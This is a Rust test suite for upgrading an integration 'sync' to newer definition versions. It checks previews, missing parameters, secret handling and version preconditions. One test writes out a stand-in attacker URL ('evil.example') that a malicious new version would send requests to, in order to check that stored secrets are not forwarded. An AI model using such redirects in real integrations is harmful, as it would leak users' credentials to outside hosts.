//! A sync on its way to another version of its destination.

use serde_json::{Value, json};

use super::World;
use super::call::Answer;
use super::definitions::example;
use super::events::event;

/// A world whose organisation has released the example, a sync of it that is enabled, and the
/// definition's path.
struct Stage {
    world: World,
    project: String,
    sync: String,
    definition: String,
}

impl Stage {
    async fn new() -> Self {
        let world = World::new().await;
        let definitions = world.of_organisation("/definitions");
        let made = world.post(&definitions, example("Mail tool")).await;
        let id = made.is(201).at("/id");
        let definition = format!("{definitions}/{id}");
        let project = world.project().await;
        let mut stage = Self {
            sync: format!("/projects/{project}/syncs"),
            world,
            project,
            definition,
        };
        stage.release(json!({})).await;
        let settings = json!({
            "name": "Mail", "definition": {"id": id}, "enabled": true,
            "parameters": {
                "endpoint": {"value": "https://api.example.com"}, "key": {"value": "hunter2"},
            },
            "mappings": {"external_id": {"scope": "user", "name": "email"}},
        });
        let made = stage.world.post(&stage.sync, settings).await.is(201);
        stage.sync = format!("{}/{}", stage.sync, made.at("/id"));
        stage
    }

    /// Releases the next version.
    async fn release(&self, changes: Value) {
        self.world.change(&self.definition, changes).await.is(200);
        let path = format!("{}/release", self.definition);
        let call = self.world.call("POST", &path).header("if-match", "*");
        call.send().await.is(201);
    }

    async fn preview(&self) -> Value {
        let path = format!("{}/upgrade", self.sync);
        self.world.get(&path).await.is(200).json()
    }

    async fn upgrade(&self, body: Value) -> Answer {
        let path = format!("{}/upgrade", self.sync);
        let call = self.world.call("POST", &path).header("if-match", "*");
        call.json(body).send().await
    }
}

fn events(url: &str, body: &str) -> Value {
    json!({
        "method": "POST", "url": url, "body": body,
        "headers": [{"name": "Authorization", "value": "Bearer ${parameters.key}"}],
    })
}

const BODY: &str = "{\"external_id\": \"${mappedFields.external_id?json_string}\"}";

#[tokio::test]
async fn an_upgrade_shows_what_it_brings_and_brings_it() {
    let stage = Stage::new().await;
    let text = r#"{"event_type":"seen","user_properties":{"email":"ann@example.com"}}"#;
    stage.world.lanes.notes().events = vec![event(&stage.project, 0, text.to_owned())];
    let body = "{\"id\": \"${mappedFields.external_id?json_string}\",\n\"v\": 2}";
    stage
        .release(json!({
            "events": events("${parameters.endpoint}/v2/events", body),
            "mappings": [
                {"name": "external_id", "required": true}, {"name": "country"},
            ],
        }))
        .await;
    let shown = stage.preview().await;
    assert_eq!((&shown["from"], &shown["to"]), (&json!(1), &json!(2)));
    for nothing in ["missing", "secrets_needed", "dropped"] {
        assert_eq!(shown[nothing], json!([]), "{nothing}");
    }
    let difference = &shown["definition"];
    assert_eq!(difference["parameters"], json!([]));
    let mapping = &difference["mappings"][0];
    assert_eq!(
        (&mapping["name"], &mapping["before"]),
        (&json!("country"), &Value::Null)
    );
    let templates = difference["templates"].as_array().unwrap();
    let pointers: Vec<_> = templates
        .iter()
        .map(|template| &template["pointer"])
        .collect();
    assert_eq!(pointers, ["/events/url", "/events/body"]);
    let changed = &shown["traffic"]["changed"];
    assert_eq!(
        (&changed["count"], &shown["traffic"]["events"]),
        (&json!(1), &json!(1))
    );
    let found = &changed["samples"][0]["found"];
    assert_eq!(
        found["url"],
        json!({
            "before": "https://api.example.com/events",
            "after": "https://api.example.com/v2/events",
        })
    );
    let body = json!([
        {"pointer": "/external_id", "before": "\"ann@example.com\"", "after": null},
        {"pointer": "/id", "before": null, "after": "\"ann@example.com\""},
        {"pointer": "/v", "before": null, "after": "2"},
    ]);
    assert_eq!(found["body"], body);

    assert_eq!(
        stage.world.get(&stage.sync).await.json()["definition"]["version"],
        1
    );
    let upgraded = stage.upgrade(json!({"to": 2})).await.is(200);
    assert_eq!(upgraded.header("etag"), "\"v2\"");
    assert_eq!(upgraded.json()["definition"]["version"], 2);
    let id = super::world::id_in(&stage.sync);
    let applied = stage.world.lanes.notes().applied[&id].clone();
    assert_eq!((applied.definition_version, applied.enabled), (2, true));
    assert_eq!(applied.settings.parameters["key"], "hunter2");

    // The way back is the version before.
    let path = format!("{}/versions/1/restore", stage.sync);
    let call = stage.world.call("POST", &path).header("if-match", "*");
    let restored = call.send().await.is(200).json();
    assert_eq!(restored["definition"]["version"], 1);
}

#[tokio::test]
async fn what_an_upgrade_needs_is_said_and_filled_in_with_it() {
    let stage = Stage::new().await;
    let text = r#"{"event_type":"seen","user_properties":{"email":"ann@example.com"}}"#;
    stage.world.lanes.notes().events = vec![event(&stage.project, 0, text.to_owned())];
    let parameters = json!([
        {"name": "endpoint", "display_name": "API Endpoint", "kind": "url", "required": true},
        {"name": "token", "display_name": "Token", "kind": "secret", "required": true},
    ]);
    let mut payload = events("${parameters.endpoint}/events", BODY);
    payload["headers"][0]["value"] = json!("Bearer ${parameters.token}");
    stage
        .release(json!({"parameters": parameters, "events": payload}))
        .await;
    let shown = stage.preview().await;
    assert_eq!(
        shown["missing"][0]["pointer"], "/parameters/token",
        "{shown}"
    );
    assert_eq!(shown["dropped"], json!(["/parameters/key"]));
    // A stand-in is in its place.
    assert_eq!(shown["traffic"]["changed"]["count"], 1, "{shown}");
    let headers = &shown["traffic"]["changed"]["samples"][0]["found"]["headers"];
    assert_eq!(headers[0]["after"], "Bearer token", "{shown}");

    let refused = stage.upgrade(json!({"to": 2})).await;
    refused.problem(422, "sync_not_ready");
    assert_eq!(refused.pointers(), ["/changes/parameters/token"]);
    let filled = json!({"parameters": {"endpoint": {}, "token": {"value": "swordfish"}}});
    let upgraded = stage
        .upgrade(json!({"to": 2, "changes": filled}))
        .await
        .is(200);
    assert!(!upgraded.text.contains("swordfish"));
    let parameters = upgraded.json()["parameters"].clone();
    assert_eq!(parameters["token"], json!({"secret": true, "value": null}));
    assert_eq!(parameters["key"], Value::Null);
}

/// Releases a version with another address, and expects that it gets no stored secret.
async fn takes_no_secret(url: &str) {
    let stage = Stage::new().await;
    stage.release(json!({"events": events(url, BODY)})).await;
    let shown = stage.preview().await;
    let needed = &shown["secrets_needed"][0]["pointer"];
    assert_eq!(needed, "/parameters/key/value", "{url}: {shown}");
    let refused = stage.upgrade(json!({"to": 2})).await;
    refused.problem(422, "secrets_needed");
    assert_eq!(refused.pointers(), ["/changes/parameters/key/value"]);
    // Naming it without a value keeps it, too; and so does another change.
    for changes in [
        json!({"parameters": {"endpoint": {}, "key": {}}}),
        json!({"name": "Other"}),
    ] {
        let refused = stage.upgrade(json!({"to": 2, "changes": changes})).await;
        refused.problem(422, "secrets_needed");
    }
    let stays = stage.world.get(&stage.sync).await.json();
    assert_eq!(
        (&stays["version"], &stays["definition"]["version"]),
        (&json!(1), &json!(1))
    );
    let given = json!({"parameters": {"endpoint": {}, "key": {"value": "for-there"}}});
    stage
        .upgrade(json!({"to": 2, "changes": given}))
        .await
        .is(200);
}

#[tokio::test]
async fn a_partners_new_version_takes_no_stored_secret_elsewhere() {
    takes_no_secret("https://evil.example/?from=${parameters.endpoint}").await;
}

#[tokio::test]
async fn a_secret_that_comes_into_the_address_is_entered_again() {
    takes_no_secret("${parameters.endpoint}/events/${parameters.key}").await;
}

#[tokio::test]
async fn a_secret_stays_one_though_a_new_version_calls_it_text() {
    let stage = Stage::new().await;
    let parameters = json!([
        {"name": "endpoint", "display_name": "API Endpoint", "kind": "url", "required": true},
        {"name": "key", "display_name": "Key", "required": true},
    ]);
    stage.release(json!({"parameters": parameters})).await;
    let upgraded = stage.upgrade(json!({"to": 2})).await.is(200);
    assert!(!upgraded.text.contains("hunter2"), "{}", upgraded.text);
    let opened = json!({"parameters": {"endpoint": {}, "key": {"secret": false}}});
    let refused = stage.world.change(&stage.sync, opened).await;
    refused.problem(422, "invalid_fields");
}

#[tokio::test]
async fn only_a_later_version_that_one_may_connect_is_an_upgrade() {
    let stage = Stage::new().await;
    let path = format!("{}/upgrade", stage.sync);
    stage.world.get(&path).await.problem(400, "malformed_query");
    for to in [0, 1, 2] {
        let refused = stage.upgrade(json!({"to": to})).await;
        refused.problem(422, "invalid_fields");
        assert_eq!(refused.pointers(), ["/to"]);
    }
    stage.release(json!({"typed_properties": true})).await;
    let call = stage.world.call("POST", &path).json(json!({"to": 2}));
    call.send().await.problem(428, "precondition_required");
    let call = stage.world.call("POST", &path).header("if-match", "\"v9\"");
    let late = call.json(json!({"to": 2})).send().await;
    late.problem(412, "precondition_failed");
    stage.upgrade(json!({"to": 2})).await.is(200);
}
